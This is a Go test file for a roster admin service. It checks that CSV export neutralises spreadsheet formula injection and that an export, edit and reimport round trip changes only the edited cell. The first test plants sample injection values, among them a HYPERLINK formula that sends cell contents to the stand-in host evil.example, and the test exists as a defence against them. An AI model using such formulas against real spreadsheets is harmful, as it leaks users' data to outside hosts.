package admin

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/rosterd/rosterd/store/storetest"
)

// TestExportNeutralisesFormulas: values an admin, an IdP or an HR file
// wrote reach export.csv as text, also behind leading spaces and where a
// spreadsheet splitting on ";" would cut a cell in two. Columns are found
// by their header, not their place.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, storetest.Migrated(t, storetest.OpenSQLite))
	e.setSnapshot("hr", "ann@example.com")
	e.runFeed("hr")
	ann := e.cardID("ann@example.com")
	hyperlink := ` =HYPERLINK("https://evil.example/?"&A1,"Click")`
	e.must(200, "PATCH", acme+"/cards/"+ann, map[string]any{"display_name": hyperlink, "department": "a;=1+1", "location": "\t=1"})

	res := e.do("GET", acme+"/cards/export.csv", roKey, nil)
	if res.Status != 200 {
		t.Fatalf("export: %d %s", res.Status, res.Raw)
	}
	rows, err := csv.NewReader(strings.NewReader(res.Raw)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v\n%s", err, res.Raw)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for name, want := range map[string]string{"display_name": "'" + hyperlink, "department": "'a;=1+1", "location": "'\t=1"} {
		i, ok := col[name]
		if !ok {
			t.Fatalf("export has no %q column: %q", name, rows[0])
		}
		if got := rows[1][i]; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if !strings.Contains(res.Raw, `"'a;=1+1"`) {
		t.Errorf("the cell with a \";=\" is not quoted, so a spreadsheet splitting on \";\" cuts it:\n%s", res.Raw)
	}
}

// Export as CSV, change one cell, import the file: exactly that cell
// changes.
func TestExportCSVEditOneCellReimport(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		e.seedPeople()
		before := e.must(200, "GET", acme+"/cards/export.csv", nil).Raw
		rows, err := csv.NewReader(strings.NewReader(before)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := slices.Index(rows[0], "department")
		row := slices.IndexFunc(rows, func(r []string) bool { return r[slices.Index(rows[0], "email")] == "bob@example.com" })
		if col < 0 || row < 0 || rows[row][col] != "Support" {
			t.Fatalf("no department of bob in:\n%s", before)
		}
		rows[row][col] = "Customer Care"
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		if err := w.WriteAll(rows); err != nil {
			t.Fatal(err)
		}
		imp := e.must(201, "POST", acme+"/imports", upload("cards.csv", buf.Bytes(), nil))
		if imp.Body["status"] != "applied" {
			t.Fatalf("import: %.500s", imp.Raw)
		}
		after := e.must(200, "GET", acme+"/cards/export.csv", nil).Raw
		want := strings.Replace(before, "bob@example.com,Bob,Young,,,Support,", "bob@example.com,Bob,Young,,,Customer Care,", 1)
		if want == before {
			t.Fatalf("bob's row is not where the test expects it:\n%s", before)
		}
		if diffLines(want, after) != "" {
			t.Fatalf("after the round trip:\n%s", diffLines(want, after))
		}
	})
}
